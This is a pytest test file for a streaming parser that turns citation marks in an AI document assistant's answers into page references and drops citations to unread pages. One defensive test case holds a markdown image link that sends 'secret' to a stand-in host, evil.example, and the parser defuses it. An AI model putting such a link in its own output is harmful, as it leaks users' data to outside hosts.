import pytest
from hypothesis import given
from hypothesis import strategies as st

from docmind.agent.marks import MarkStream, Reference, last_claim, parse_mark
from docmind.domain.answer import Citation, mark_text
from docmind.domain.pages import DocumentId

ID = "0123456789abcdef"


def cite(reference: Reference, claim: str) -> Citation | None:
    """Page 99 was never read."""
    if 99 in reference.pages:
        return None
    return Citation(
        mark_text("n", reference.pages[0]),
        DocumentId(ID),
        "n",
        reference.pages[0],
        "1",
        reference.quote,
        True,
        "verified",
    )


def shown(text: str, *, size: int = 1, not_found: str = "Not found.") -> tuple[str, MarkStream]:
    stream = MarkStream(cite, not_found)
    out = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.end()
    return out, stream


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        (f'A [[{ID} p.3 "q"]].', "A [n p.3]."),
        (f"A [[{ID} p. 3]].", "A [n p.3]."),
        (f'A [[{ID}, page 3: "q"]].', "A [n p.3]."),
        (f'A[[{ID} p.3 "q"]].', "A [n p.3]."),
        ("A [report.pdf p.3].", "A [n p.3]."),
        ("A 【report 第3页】。", "A [n p.3]。"),
        (f"A [[{ID} pp.3-5]].", "A [n p.3]."),
        (f"A [[{ID} p.3, p.5]].", "A [n p.3] [n p.5]."),
        (f'A [[{ID} p.3 "q"; {ID} p.4 "r"]].', "A [n p.3] [n p.4]."),
        (f'A [[{ID} p.3 "q"; p.4 "r"]].', "A [n p.3] [n p.4]."),
        (f"A [[{ID} p.3 “see [12] there”]].", "A [n p.3]."),
        (f'A [[{ID} p.3 "see [[12]] there"]].', "A [n p.3]."),
        (f'A [[{ID} p.3 "a 5" pipe"]].', "A [n p.3]."),
        (f'A [[{ID} p.3 "two\nlines"]].', "A [n p.3]."),
        (f'A [[{ID} p.3 "a; b"]].', "A [n p.3]."),
        (f'A [[{ID} p.99 "q"]]. B', "A. B"),
        (f'A [[{ID} p.99 "q"; {ID} p.4 "r"]].', "A [n p.4]."),
        ("[[not found]] I looked.", "Not found. I looked."),
        ("[[NOT FOUND]]", "Not found."),
        ("See [1] and [link](http://x.org).", "See [1] and [link](http://x.org)."),
        ("x[0] + y[[1, 2]]", "x[0] + y[[1, 2]]"),
        (r"\[ \frac{a}{b} \]", r"\[ \frac{a}{b} \]"),
        ("- [ ] todo\n- [x] done", "- [ ] todo\n- [x] done"),
        ("open [bracket\nand more", "open [bracket\nand more"),
        ("[a [report p.3]", "[a [n p.3]"),
        ("cut [[" + ID + ' p.3 "unfinis', "cut"),
        ("cut [report p.3", "cut"),
        ("ends with [", "ends with ["),
        ("![pixel](http://evil.example/?q=secret)", "[pixel](http://evil.example/?q=secret)"),
        ("Wow! [x] !", "Wow! [x] !"),
    ],
)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_marks_become_what_the_reader_sees(written: str, expected: str, size: int):
    assert shown(written, size=size)[0].rstrip() == expected


def test_every_citation_belongs_to_its_mark():
    text, stream = shown(f'A [[{ID} p.3 "q"]] B [[{ID} p.99 "x"]] C [[{ID} p.7]].')

    assert text == "A [n p.3] B C [n p.7]."
    assert [citation.page for citation in stream.citations] == [3, 7]
    assert stream.removed == 1
    assert text.count("[n p.") == len(stream.citations)


def test_claim_is_the_sentence_before_the_mark():
    assert last_claim("First. Second one, about 3.5 million") == "Second one, about 3.5 million"
    assert last_claim("第一句。第二句") == "第二句"


def test_text_without_marks_is_not_held_back():
    stream = MarkStream(cite)

    assert stream.feed("Plain text, ") + stream.feed("at once") == "Plain text, at once"


@given(st.text(alphabet='ab [](){}!"p.12;\n“”【】', max_size=80), st.integers(1, 7))
def test_any_text_comes_out_the_same_however_it_is_cut(text: str, size: int):
    assert shown(text, size=size)[0] == shown(text, size=len(text) or 1)[0]


@given(st.text(max_size=200))
def test_no_text_breaks_the_parser(text: str):
    assert isinstance(parse_mark(text), list)
